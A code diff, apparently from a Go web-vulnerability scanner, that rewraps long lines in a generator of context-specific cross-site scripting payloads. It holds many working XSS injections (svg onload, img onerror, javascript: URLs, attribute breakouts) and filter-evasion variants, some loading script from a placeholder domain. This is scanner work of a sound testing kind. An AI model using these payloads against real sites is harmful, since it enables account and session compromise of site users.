@@ -33,9 +33,11 @@ type context struct {
 	element string
 	name    string // of the attribute
 	quote   byte   // around the attribute's value, or the string in script; 0: none
-	state   byte   // in script: the quote, '/' in a comment to the end of the line, '*' in a block comment, '`' in a template, 0 in code
-	address bool   // the script is an address, in which percent signs encode
-	xml     bool   // the page is XML
+	// in script: the quote, '/' in a comment to the end of the line, '*' in a block comment, '`' in a template, 0 in
+	// code
+	state   byte
+	address bool // the script is an address, in which percent signs encode
+	xml     bool // the page is XML
 }
 
 // describe tells the place to people.
@@ -63,14 +65,17 @@ func (c context) describe() string {
 }
 
 // addressed are attributes that a browser opens, where an address of script runs.
-var addressed = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "data": true, "xlink:href": true, "srcdoc": false}
+var addressed = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "data": true,
+	"xlink:href": true, "srcdoc": false}
 
 // foreign are attributes whose address decides what runs in the page or where its
 // forms go.
-var foreign = map[string]string{"script": "src", "base": "href", "form": "action", "iframe": "src", "embed": "src", "object": "data", "link": "href"}
+var foreign = map[string]string{"script": "src", "base": "href", "form": "action", "iframe": "src", "embed": "src",
+	"object": "data", "link": "href"}
 
 // rawText are elements whose content is no markup.
-var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "noscript": true, "xmp": true, "iframe": true, "noembed": true, "noframes": true, "plaintext": true}
+var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "noscript": true, "xmp": true,
+	"iframe": true, "noembed": true, "noframes": true, "plaintext": true}
 
 // contexts returns the places of the word in the page, each kind once.
 func contexts(resp *message.Response, word string) []context {
@@ -157,7 +162,8 @@ func inside(raw, element, word string) []context {
 			out = append(out, context{kind: inAddress, element: element, name: name, quote: quote})
 		case addressed[name] && strings.HasPrefix(strings.ToLower(value), "javascript:"):
 			for _, state := range states(strings.TrimSpace(html.UnescapeString(raw[start:i+len(word)])), word) {
-				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state, address: true})
+				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state,
+					address: true})
 			}
 		default:
 			out = append(out, context{kind: inAttribute, element: element, name: name, quote: quote})
@@ -291,7 +297,8 @@ func (c context) payloads(word string) []string {
 	if c.xml {
 		return c.xmlPayloads(call)
 	}
-	tags := []string{"<svg onload=" + call + ">", "<img\nsrc=x\nonerror=" + call + "\n>", "<script>" + call + "</script>", "<ScRiPt>" + call + "</sCrIpT>", "<svg/onload=" + call + "//",
+	tags := []string{"<svg onload=" + call + ">", "<img\nsrc=x\nonerror=" + call + "\n>", "<script>" + call +
+		"</script>", "<ScRiPt>" + call + "</sCrIpT>", "<svg/onload=" + call + "//",
 		"<a href=javascript:" + call + ">x</a>", "<scr<script>ipt>" + call + "</scr</script>ipt>"}
 	before := func(prefix string, list ...string) []string {
 		out := make([]string, len(list))
@@ -312,7 +319,8 @@ func (c context) payloads(word string) []string {
 	case inComment:
 		return append(before("-->", tags[:4]...), "--!>"+tags[0])
 	case inStyle:
-		return []string{"x;" + word + ":1;x:x", word + ":1;x", "x{}" + word + "{" + word + ":1}x", "x]{" + word + ":1}x[x", "\"]{" + word + ":1}x[x=\"", "x}" + word + "{" + word + ":1}x{x"}
+		return []string{"x;" + word + ":1;x:x", word + ":1;x", "x{}" + word + "{" + word + ":1}x", "x]{" + word +
+			":1}x[x", "\"]{" + word + ":1}x[x=\"", "x}" + word + "{" + word + ":1}x{x"}
 	case inAddress:
 		leave := context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)
 		other := "//" + word + ".example/"
@@ -322,7 +330,8 @@ func (c context) payloads(word string) []string {
 		case foreign[c.element] == c.name:
 			return append([]string{"javascript:" + call + "//", other}, leave...)
 		}
-		return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//", "javascript://%0a" + call + "//",
+		return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//",
+			"javascript://%0a" + call + "//",
 			"javasc&#114;ipt:" + call + "//http://", "javascrscriptipt:" + call + "//"}, leave...)
 	case inAttribute:
 		if c.element == "iframe" && c.name == "srcdoc" {
@@ -330,10 +339,13 @@ func (c context) payloads(word string) []string {
 			return append(tags[:3:3], c.payloads(word)...) // the value is a page
 		}
 		if q == "" {
-			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">", "x\fonfocus=" + call + "\fautofocus\ftabindex=1\f"}
+			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">",
+				"x\fonfocus=" + call + "\fautofocus\ftabindex=1\f"}
 		}
-		return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
-			q + "><img src=x onerror=" + call + ">", q + "><a href=javascript:" + call + ">x</a>", q + " ONFOCUS=" + call + " AUTOFOCUS TABINDEX=1 X=" + q,
+		return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q,
+			q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
+			q + "><img src=x onerror=" + call + ">", q + "><a href=javascript:" + call + ">x</a>", q + " ONFOCUS=" +
+				call + " AUTOFOCUS TABINDEX=1 X=" + q,
 			q + " oonnfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><scrscriptipt>" + call + "</scrscriptipt>"}
 	case inTag:
 		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "><svg onload=" + call + ">"}
@@ -347,14 +359,16 @@ func (c context) payloads(word string) []string {
 				list = append(list, escape.Replace(p))
 			}
 		}
-		return append(list, context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)...)
+		return append(list, context{kind: inAttribute, element: c.element, name: c.name,
+			quote: c.quote}.payloads(word)...)
 	}
 	return nil
 }
 
 // evasions are parts of values that are another way to write what one before them says,
 // for what takes out words, letters or blanks.
-var evasions = []string{"JaVaScRiPt:", "java\tscript:", "javasc&#114;ipt:", "scrscriptipt", "<ScRiPt>", "<scr<script>", "oonn", "ONFOCUS", "\fonfocus", "/onfocus", "%27", "%22", "%60"}
+var evasions = []string{"JaVaScRiPt:", "java\tscript:", "javasc&#114;ipt:", "scrscriptipt", "<ScRiPt>", "<scr<script>",
+	"oonn", "ONFOCUS", "\fonfocus", "/onfocus", "%27", "%22", "%60"}
 
 // evades reports whether a value is such a way.
 func evades(payload string) bool {
@@ -384,14 +398,22 @@ func (c context) xmlPayloads(call string) []string {
 func anyTags(word string) []string {
 	call := word + "(1)"
 	return []string{
-		"<img src=x onerror=" + call + ">", "<svg onload=" + call + ">", "<script>" + call + "</script>", "<a href=javascript:" + call + ">x</a>",
-		"<div onmouseover=" + call + ">x</div>", "<iframe src=javascript:" + call + "></iframe>", "<body onload=" + call + ">",
-		"<details open ontoggle=" + call + ">x</details>", "<input onfocus=" + call + " autofocus>", "<video src=x onerror=" + call + "></video>",
-		"<form action=javascript:" + call + "><input type=submit></form>", "<x onfocus=" + call + " autofocus tabindex=1>x</x>",
-		`<iframe srcdoc="&lt;svg onload=` + call + `&gt;"></iframe>`, "<svg><animate onbegin=" + call + " attributeName=x dur=1s></svg>",
-		"<b onclick=" + call + ">x</b>", "<img src=x onerror=" + word + "`1`>", "<img src=x onerror=" + word + "&lpar;1&rpar;>",
-		"<scrscriptipt>" + call + "</scrscriptipt>", "<img src=x oonnerror=" + call + ">", "<IMG SRC=x ONERROR=" + call + ">",
-		"<script src=//" + word + ".example/></script>", "<style>x{" + word + ":1}</style>", "<div style=" + word + ":1>x</div>", "<a style=" + word + ":1>x</a>",
+		"<img src=x onerror=" + call + ">", "<svg onload=" + call + ">", "<script>" + call + "</script>",
+		"<a href=javascript:" + call + ">x</a>",
+		"<div onmouseover=" + call + ">x</div>", "<iframe src=javascript:" + call + "></iframe>", "<body onload=" +
+			call + ">",
+		"<details open ontoggle=" + call + ">x</details>", "<input onfocus=" + call + " autofocus>",
+		"<video src=x onerror=" + call + "></video>",
+		"<form action=javascript:" + call + "><input type=submit></form>", "<x onfocus=" + call +
+			" autofocus tabindex=1>x</x>",
+		`<iframe srcdoc="&lt;svg onload=` + call + `&gt;"></iframe>`, "<svg><animate onbegin=" + call +
+			" attributeName=x dur=1s></svg>",
+		"<b onclick=" + call + ">x</b>", "<img src=x onerror=" + word + "`1`>", "<img src=x onerror=" + word +
+			"&lpar;1&rpar;>",
+		"<scrscriptipt>" + call + "</scrscriptipt>", "<img src=x oonnerror=" + call + ">", "<IMG SRC=x ONERROR=" +
+			call + ">",
+		"<script src=//" + word + ".example/></script>", "<style>x{" + word + ":1}</style>", "<div style=" + word +
+			":1>x</div>", "<a style=" + word + ":1>x</a>",
 		"<meta http-equiv=refresh content=0;url=//" + word + ".example/>",
 	}
 }
@@ -401,7 +423,8 @@ func (c context) code(call string) []string {
 	q := string(c.state)
 	switch c.state {
 	case '\'', '"':
-		return []string{q + "-" + call + "-" + q, q + ";" + call + ";//", `\` + q + "-" + call + "//", `\` + q + ";" + call + ";//", q + ");" + call + ";//", q + "});" + call + ";//", q + "};" + call + ";//"}
+		return []string{q + "-" + call + "-" + q, q + ";" + call + ";//", `\` + q + "-" + call + "//", `\` + q + ";" +
+			call + ";//", q + ");" + call + ";//", q + "});" + call + ";//", q + "};" + call + ";//"}
 	case '`':
 		return []string{"${" + call + "}", "`-" + call + "-`"}
 	case '/':
